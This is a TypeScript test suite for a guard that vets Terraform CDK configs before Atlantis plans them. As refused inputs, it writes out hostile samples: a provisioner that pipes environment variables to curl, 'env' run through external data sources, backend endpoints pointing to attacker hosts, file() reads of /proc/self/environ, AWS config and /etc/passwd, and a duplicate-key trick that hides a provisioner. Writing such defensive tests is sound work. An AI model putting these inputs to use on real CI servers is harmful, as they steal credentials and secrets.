/**
 * The trusted config check (guards/config-check.ts), on small configs of its own and on the
 * committed synthesized stacks. Each refusal asserts the literal message: it is what Atlantis posts.
 */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { ENVIRONMENTS } from "../../config/environments";
import { stackName } from "../../config/environment-bounds";
import { parse as parseYaml } from "yaml";
import { atlantisProjectProblems } from "../../guards/atlantis-projects";
import { checkTerraformConfig, type ConfigCheckFacts } from "../../guards/config-check";
import { parseStrictJson } from "../../guards/strict-json";

const DEV: ConfigCheckFacts = {
  stack: "dynamodb-dev",
  accountId: "111111111111",
  region: "eu-west-1",
  state: { bucket: "state-dev", key: "opsdata/dev.tfstate", region: "eu-west-1" },
  awsProviderVersion: "6.25.0",
};

/** A config that passes for DEV: what synth writes, minus the resources. Typed loosely: each test edits it as JSON. */
// eslint-disable-next-line @typescript-eslint/no-explicit-any
function devConfig(): Record<string, any> {
  return {
    "//": { metadata: { stackName: "dynamodb-dev" } },
    terraform: {
      backend: { s3: { bucket: "state-dev", key: "opsdata/dev.tfstate", region: "eu-west-1", encrypt: true, use_lockfile: true } },
      required_providers: { aws: { source: "aws", version: "6.25.0" } },
    },
    provider: { aws: [{ region: "eu-west-1", allowed_account_ids: ["111111111111"], default_tags: [{ tags: { project: "x" } }] }] },
    resource: { aws_dynamodb_table: { api_keys: { name: "opsdata_dev_api_keys", hash_key: "pk" } } },
    output: { api_keys_table_name: { value: "x" } },
  };
}
const problems = (config: unknown, facts: Partial<ConfigCheckFacts> = {}) => checkTerraformConfig(config, { ...DEV, ...facts });

describe("the config check", () => {
  test("GIVEN the AWS provider at the pinned version, the environment's backend and account THEN it passes", () => {
    expect(problems(devConfig())).toEqual([]);
  });

  test("GIVEN a second provider THEN it refuses, in required_providers and in provider", () => {
    const config = devConfig();
    config.terraform.required_providers.null = { source: "hashicorp/null", version: "3.2.0" };
    config.provider.null = [{}];
    expect(problems(config)).toEqual([
      "dynamodb-dev/cdk.tf.json: required_providers.null: a second provider is not allowed; only hashicorp/aws 6.25.0",
      'dynamodb-dev/cdk.tf.json: provider "null": a second provider is not allowed; only hashicorp/aws 6.25.0',
    ]);
  });

  test("GIVEN another version or source of the AWS provider THEN it refuses", () => {
    const config = devConfig();
    config.terraform.required_providers.aws = { source: "evil/aws", version: ">= 6.0" };
    expect(problems(config)).toEqual([
      'dynamodb-dev/cdk.tf.json: required_providers.aws.source is "evil/aws"; only hashicorp/aws is allowed',
      'dynamodb-dev/cdk.tf.json: required_providers.aws.version is ">= 6.0"; the pinned version is exactly "6.25.0"',
    ]);
  });

  test("GIVEN a second s3 backend body or configuration_aliases THEN it refuses (terraform merges array bodies)", () => {
    const config = devConfig();
    config.terraform.backend.s3 = [config.terraform.backend.s3, { endpoints: { s3: "https://evil.example" } }];
    config.terraform.required_providers.aws.configuration_aliases = ["aws.x"];
    expect(problems(config)).toEqual([
      "dynamodb-dev/cdk.tf.json: required_providers.aws sets configuration_aliases; only source and version are allowed",
      "dynamodb-dev/cdk.tf.json: terraform.backend.s3 must be one object (found 2)",
    ]);
  });

  test("GIVEN a provider assume_role THEN it refuses: the server chooses the identity", () => {
    const config = devConfig();
    config.provider.aws[0].assume_role = [{ role_arn: "arn:aws:iam::333333333333:role/admin" }];
    expect(problems(config)).toEqual([
      'dynamodb-dev/cdk.tf.json: provider "aws" sets assume_role: the server chooses the credentials for each environment and stage; ' +
        "the provider may set only region, allowed_account_ids, default_tags",
    ]);
  });

  test("GIVEN provider credentials, a profile or an alias THEN it refuses", () => {
    const config = devConfig();
    config.provider.aws[0].profile = "prod";
    config.provider.aws.push({ alias: "other", region: "us-east-1" });
    expect(problems(config)).toEqual(['dynamodb-dev/cdk.tf.json: provider "aws" must be configured exactly once (found 2; no aliases)']);
    config.provider.aws.pop();
    expect(problems(config)).toEqual([
      'dynamodb-dev/cdk.tf.json: provider "aws" sets profile: the server chooses the credentials for each environment and stage; ' +
        "the provider may set only region, allowed_account_ids, default_tags",
    ]);
  });

  test("GIVEN another environment's account THEN it refuses", () => {
    const config = devConfig();
    config.provider.aws[0].allowed_account_ids = ["333333333333"];
    expect(problems(config)).toEqual([
      'dynamodb-dev/cdk.tf.json: provider "aws" allowed_account_ids is ["333333333333"]; dynamodb-dev must allow exactly its account ["111111111111"]',
    ]);
  });

  test("GIVEN a backend key of another environment THEN it refuses", () => {
    const config = devConfig();
    config.terraform.backend.s3.key = "opsdata/prod.tfstate";
    expect(problems(config)).toEqual([
      'dynamodb-dev/cdk.tf.json: terraform.backend.s3.key is "opsdata/prod.tfstate"; the state of dynamodb-dev is opsdata/dev.tfstate',
    ]);
  });

  test("GIVEN backend credentials or another backend type THEN it refuses", () => {
    const config = devConfig();
    config.terraform.backend.s3.role_arn = "arn:aws:iam::111111111111:role/x";
    expect(problems(config)).toEqual([
      "dynamodb-dev/cdk.tf.json: terraform.backend.s3 sets role_arn: the server chooses the credentials; " +
        "the backend may set only bucket, key, region, encrypt, use_lockfile",
    ]);
    config.terraform.backend = { local: { path: "/tmp/x" } };
    expect(problems(config)).toEqual(["dynamodb-dev/cdk.tf.json: terraform.backend must be exactly one s3 backend (found local)"]);
  });

  test("GIVEN a local-exec provisioner THEN it refuses", () => {
    const config = devConfig();
    config.resource.aws_dynamodb_table.api_keys.provisioner = [{ "local-exec": { command: "env | curl -d @- https://x" } }];
    expect(problems(config)).toEqual([
      "dynamodb-dev/cdk.tf.json: resource aws_dynamodb_table.api_keys has a provisioner: provisioners run commands on the Atlantis server; remove it",
    ]);
  });

  test("GIVEN a terraform_data resource THEN it refuses: only aws_* resources", () => {
    const config = devConfig();
    config.resource.terraform_data = { x: { input: 1 } };
    expect(problems(config)).toEqual([
      "dynamodb-dev/cdk.tf.json: resource terraform_data.x: only aws_* resources are allowed (its provider would run on the server)",
    ]);
  });

  test("GIVEN an external data source THEN it refuses", () => {
    const config = devConfig();
    config.data = { external: { secrets: { program: ["sh", "-c", "env"] } } };
    expect(problems(config)).toEqual([
      "dynamodb-dev/cdk.tf.json: data.external.secrets: the external data source runs a program on the Atlantis server; remove it",
    ]);
  });

  test("GIVEN an IAM role another account or a person may assume THEN it refuses; service roles pass", () => {
    const config = devConfig();
    const trust = (principal: unknown) =>
      JSON.stringify({ Version: "2012-10-17", Statement: [{ Effect: "Allow", Principal: principal, Action: "sts:AssumeRole" }] });
    const refusal = (name: string) =>
      `dynamodb-dev/cdk.tf.json: resource aws_iam_role.${name}: its assume_role_policy must be a literal policy that only ` +
      "AWS services (Principal.Service) may assume: a role the stack creates is never for a person or another account";
    config.resource.aws_iam_role = {
      service: { name: "opsdata_dev_x", assume_role_policy: trust({ Service: "firehose.amazonaws.com" }) },
      foreign: { name: "opsdata_dev_y", assume_role_policy: trust({ AWS: "arn:aws:iam::999999999999:root" }) },
      anyone: { name: "opsdata_dev_z", assume_role_policy: trust("*") },
      computed: { name: "opsdata_dev_w", assume_role_policy: "${aws_iam_role.service.arn}" },
    };
    expect(problems(config)).toEqual([refusal("foreign"), refusal("anyone"), refusal("computed")]);
  });

  test("GIVEN a terraform_remote_state data source THEN only a declared state, exactly, passes", () => {
    const team = { bucket: "other-team-state", key: "team/prod.tfstate", region: "eu-west-1" };
    const declared = { remoteStates: { team } };
    const config = devConfig();
    config.data = { terraform_remote_state: { team: { backend: "s3", config: { ...team } } } };
    expect(problems(config, declared)).toEqual([]);
    const refusal =
      "dynamodb-dev/cdk.tf.json: data.terraform_remote_state.team: only the remote states the environment declares " +
      '(remoteStates), as { backend: "s3", config: { bucket, key, region } } exactly';
    expect(problems(config)).toEqual([refusal]);
    config.data.terraform_remote_state.team.config.endpoints = { s3: "https://attacker.example" };
    expect(problems(config, declared)).toEqual([refusal]);
    config.data.terraform_remote_state.team = { backend: "http", config: { address: "https://attacker.example" } };
    expect(problems(config, declared)).toEqual([refusal]);
  });

  test("GIVEN a destroy-time provisioner in a removed block THEN it refuses", () => {
    const removed = [
      {
        from: "aws_dynamodb_table.old",
        lifecycle: [{ destroy: true }],
        provisioner: [{ "local-exec": { when: "destroy", command: "env" } }],
      },
    ];
    expect(problems({ ...devConfig(), removed })).toEqual([
      'dynamodb-dev/cdk.tf.json: removed block for "aws_dynamodb_table.old" has a provisioner: provisioners run commands on the Atlantis server; remove it',
    ]);
  });

  test("GIVEN a check block (its scoped data source could be external) THEN it refuses", () => {
    const check = { leak: { data: { external: { x: { program: ["env"] } } }, assert: [{ condition: true, error_message: "x" }] } };
    expect(problems({ ...devConfig(), check })).toEqual([
      'dynamodb-dev/cdk.tf.json: unknown top-level block "check": only terraform, provider, resource, data, output, locals, variable, moved, removed, import are allowed',
    ]);
  });

  test("GIVEN a module block THEN it refuses", () => {
    expect(problems({ ...devConfig(), module: { x: { source: "git::https://example.com/x" } } })).toEqual([
      "dynamodb-dev/cdk.tf.json: module blocks are not allowed: a module is downloaded from outside the reviewed repository",
    ]);
  });

  describe("the project directory, recursively", () => {
    const file = (path: string) => ({ path, type: "file" as const });
    test("GIVEN only cdk.tf.json and what the server's own steps write THEN it passes", () => {
      const entries = [
        file("cdk.tf.json"),
        { path: ".terraform", type: "directory" as const },
        { path: ".terraform/providers", type: "directory" as const },
        file(".terraform.lock.hcl"),
        file("dynamodb-dev-default.tfplan"),
        file("dynamodb-dev-default.json"),
      ];
      expect(problems(devConfig(), { entries })).toEqual([]);
    });

    test("GIVEN env/default.tfvars (Atlantis passes it as -var-file), another file or a symlink THEN it refuses each", () => {
      const entries = [
        file("cdk.tf.json"),
        { path: "env", type: "directory" as const },
        file("env/default.tfvars"),
        file("README.md"),
        { path: "evil.tf.json", type: "symlink" as const },
        { path: "dynamodb-dev-default.tfplan", type: "directory" as const },
      ];
      const holdsOnly =
        "the project directory holds only cdk.tf.json (terraform loads every *.tf and *.tfvars file, and Atlantis passes " +
        "env/<workspace>.tfvars)";
      expect(problems(devConfig(), { entries })).toEqual([
        `dynamodb-dev/env: ${holdsOnly}; delete env`,
        `dynamodb-dev/env/default.tfvars: ${holdsOnly}; delete env/default.tfvars`,
        `dynamodb-dev/README.md: ${holdsOnly}; delete README.md`,
        "dynamodb-dev/evil.tf.json: a symbolic link; the project directory holds only cdk.tf.json (delete evil.tf.json)",
        `dynamodb-dev/dynamodb-dev-default.tfplan: ${holdsOnly}; delete dynamodb-dev-default.tfplan`,
      ]);
    });

    test("GIVEN cdk.tf.json as a symlink THEN it refuses: terraform would read wherever it points", () => {
      expect(problems(devConfig(), { entries: [{ path: "cdk.tf.json", type: "symlink" }] })).toEqual([
        "dynamodb-dev/cdk.tf.json: missing (or not a regular file); regenerate it with npm run synth:commit",
        "dynamodb-dev/cdk.tf.json: a symbolic link; the project directory holds only cdk.tf.json (delete cdk.tf.json)",
      ]);
    });
  });

  describe("expressions: only plain references in ${...}", () => {
    const notPlain = (path: string, expression: string) =>
      `dynamodb-dev/cdk.tf.json: ${path}: \${${expression}} is not a plain reference; expressions run on the Atlantis server ` +
      "(a function such as file() or templatefile() reads its files): only resource, data and local references are allowed";

    test("GIVEN references with attributes and indexes inside literal text THEN it passes", () => {
      const config = devConfig();
      config.resource.aws_dynamodb_table.api_keys.stream_view_type = "${aws_kms_key.tables.arn}";
      config.output.api_keys_table_name.value = 'table/${aws_dynamodb_table.api_keys.name}/index/${data.aws_x.y.ids[0]}${local.z["a-b"]}';
      expect(problems(config)).toEqual([]);
    });

    test("GIVEN file() in an output THEN it refuses, naming the JSON path", () => {
      const config = devConfig();
      config.output.leak = { value: '${file("/proc/self/environ")}' };
      expect(problems(config)).toEqual([notPlain("output.leak.value", 'file("/proc/self/environ")')]);
    });

    test("GIVEN filebase64() in the provider's default_tags THEN it refuses", () => {
      const config = devConfig();
      config.provider.aws[0].default_tags[0].tags.x = 'a-${filebase64("/home/atlantis/.aws/config")}';
      expect(problems(config)).toEqual([notPlain("provider.aws[0].default_tags[0].tags.x", 'filebase64("/home/atlantis/.aws/config")')]);
    });

    test("GIVEN templatefile() in locals, a function hidden by a } and a %{ directive THEN it refuses each", () => {
      const config = devConfig();
      config.locals = {
        t: '${templatefile("/etc/passwd",{})}',
        j: '${jsonencode({e=file("/proc/self/environ")})}',
        d: "%{ if true }x%{ endif }",
      };
      expect(problems(config)).toEqual([
        notPlain("locals.t", 'templatefile("/etc/passwd",{'),
        notPlain("locals.j", 'jsonencode({e=file("/proc/self/environ")'),
        "dynamodb-dev/cdk.tf.json: locals.d: a %{ template directive is not allowed (only plain references in ${...}); " +
          "regenerate with npm run synth:commit",
      ]);
    });

    test("GIVEN a function in an object key, an operator or a reference to a variable THEN it refuses", () => {
      const config = devConfig();
      config.provider.aws[0].default_tags[0].tags = { '${file("/x")}': "v", n: "${aws_x.y.n + 1}", v: "${var.secret}" };
      expect(problems(config)).toEqual([
        notPlain('provider.aws[0].default_tags[0].tags["${file(\\"/x\\")}"] (key)', 'file("/x")'),
        notPlain("provider.aws[0].default_tags[0].tags.n", "aws_x.y.n + 1"),
        notPlain("provider.aws[0].default_tags[0].tags.v", "var.secret"),
      ]);
    });
  });

  test("GIVEN a workspace other than default THEN it refuses", () => {
    expect(problems(devConfig(), { workspace: "prod" })).toEqual([
      "dynamodb-dev/cdk.tf.json: workspace prod: the environment's state is in the default workspace; remove `workspace` from the project in atlantis.yaml",
    ]);
  });

  test("GIVEN something that is not a JSON object THEN it refuses", () => {
    expect(problems([])).toEqual(["dynamodb-dev/cdk.tf.json: is not a JSON object; regenerate it with npm run synth:commit"]);
  });

  test.each(ENVIRONMENTS.map((environment) => [stackName(environment), environment] as const))(
    "the committed synthesized stack %s passes for its own environment",
    (stack, environment) => {
      const config = JSON.parse(readFileSync(join(__dirname, "../../synthesized", stack, "cdk.tf.json"), "utf8"));
      const facts = { stack, accountId: environment.aws.accountId, region: environment.aws.region, state: environment.state };
      expect(problems(config, facts)).toEqual([]);
    },
  );

  test("the prod stack planned as dev is refused (a project renamed in atlantis.yaml)", () => {
    const prod = JSON.parse(readFileSync(join(__dirname, "../../synthesized/dynamodb-prod/cdk.tf.json"), "utf8"));
    const dev = ENVIRONMENTS[0];
    expect(problems(prod, { accountId: dev.aws.accountId, region: dev.aws.region, state: dev.state })).toEqual([
      'dynamodb-dev/cdk.tf.json: provider "aws" allowed_account_ids is ["333333333333"]; dynamodb-dev must allow exactly its account ["111111111111"]',
      'dynamodb-dev/cdk.tf.json: terraform.backend.s3.bucket is "opsdata-terraform-state-prod"; the state of dynamodb-dev is opsdata-terraform-state-dev',
      'dynamodb-dev/cdk.tf.json: terraform.backend.s3.key is "opsdata-infra/dynamodb/prod.tfstate"; the state of dynamodb-dev is opsdata-infra/dynamodb/dev.tfstate',
    ]);
  });
});

describe("the strict JSON parser the config check reads cdk.tf.json with", () => {
  test("GIVEN a second resource key hiding a provisioner (JSON.parse keeps only the last) THEN it refuses, naming the key path", () => {
    const text = [
      "{",
      '  "resource": { "aws_dynamodb_table": { "x": { "provisioner": [{ "local-exec": { "command": "env" } }] } } },',
      '  "resource": { "aws_dynamodb_table": { "x": { "name": "t" } } }',
      "}",
    ].join("\n");
    expect(Object.keys(JSON.parse(text).resource.aws_dynamodb_table.x)).toEqual(["name"]);
    expect(() => parseStrictJson(text)).toThrow("duplicate key resource (terraform would read both) at line 3, column 3");
  });

  test("GIVEN a duplicate deep down, or spelled with an escape THEN it names the path", () => {
    expect(() => parseStrictJson('{"a":[{"b":{"c":1,"c":2}}]}')).toThrow("duplicate key a[0].b.c (terraform would read both)");
    expect(() => parseStrictJson('{"resource":{},"res\\u006furce":{}}')).toThrow("duplicate key resource");
  });

  test("GIVEN invalid JSON THEN the message has the position, never the text", () => {
    expect(() => parseStrictJson('{"secret": AKIAEXAMPLE}')).toThrow(/^unexpected character at line 1, column 12$/);
    expect(() => parseStrictJson("{} {}")).toThrow("unexpected text after the JSON value at line 1, column 4");
  });

  test("it reads what JSON.parse reads: the committed stacks, escapes, numbers, __proto__ as a plain key", () => {
    const stack = readFileSync(join(__dirname, "../../synthesized/dynamodb-prod/cdk.tf.json"), "utf8");
    expect(parseStrictJson(stack)).toEqual(JSON.parse(stack));
    const text = '{"__proto__":{"x":1},"s":"a\\n\\u00e9\\"","n":[-1.5e3,0,true,false,null]}';
    expect(parseStrictJson(text)).toEqual(JSON.parse(text));
    expect(Object.getPrototypeOf(parseStrictJson(text))).toBe(Object.prototype);
  });
});

describe("the projects of atlantis.yaml (checked by the guard's config command)", () => {
  const STACKS = ["dynamodb-dev", "dynamodb-staging", "dynamodb-prod"];
  const project = (name: string, index: number) => ({
    name,
    dir: `synthesized/${name}`,
    execution_order_group: index + 1,
    ...(index > 0 ? { depends_on: [STACKS[index - 1]] } : {}),
    autoplan: { enabled: true, when_modified: ["../../**/*"] },
  });
  const valid = () => ({ version: 3, automerge: false, parallel_plan: false, parallel_apply: false, projects: STACKS.map(project) });

  test("GIVEN the repository's atlantis.yaml THEN it passes", () => {
    const shipped = parseYaml(readFileSync(join(__dirname, "../../atlantis.yaml"), "utf8"));
    expect(atlantisProjectProblems(shipped, ENVIRONMENTS.map(stackName))).toEqual([]);
    expect(atlantisProjectProblems(valid(), STACKS)).toEqual([]);
  });

  test("GIVEN prod not depending on staging, in dev's group, with a narrower autoplan THEN it refuses each", () => {
    const config = valid();
    config.projects[2] = { ...project("dynamodb-prod", 2), execution_order_group: 1, depends_on: undefined as never };
    config.projects[2].autoplan = { enabled: true, when_modified: ["../../**/*", "!../../scripts/**"] };
    expect(atlantisProjectProblems(config, STACKS)).toEqual([
      "atlantis.yaml: project dynamodb-prod: execution_order_group is 1; it must be 3",
      'atlantis.yaml: project dynamodb-prod: depends_on is null; it must be ["dynamodb-staging"]',
      'atlantis.yaml: project dynamodb-prod: autoplan must be enabled with when_modified ["../../**/*"]: a change to any file ' +
        "replans every environment, so the pull status always holds the ones before it",
    ]);
  });

  test("GIVEN staging removed, a project added, another dir or a workflow THEN it refuses", () => {
    const config = { ...valid(), workflows: {} } as Record<string, unknown> & ReturnType<typeof valid>;
    config.projects = [project("dynamodb-dev", 0), { ...project("dynamodb-prod", 2), dir: "synthesized/dynamodb-dev" }];
    expect(atlantisProjectProblems(config, STACKS)).toEqual([
      "atlantis.yaml: workflows is not allowed (only version, automerge, parallel_plan, parallel_apply, projects)",
      'atlantis.yaml: projects are ["dynamodb-dev","dynamodb-prod"]; they must be exactly ["dynamodb-dev","dynamodb-staging","dynamodb-prod"], in this order',
      'atlantis.yaml: project dynamodb-prod: dir is "synthesized/dynamodb-dev"; it must be "synthesized/dynamodb-prod"',
    ]);
  });
});
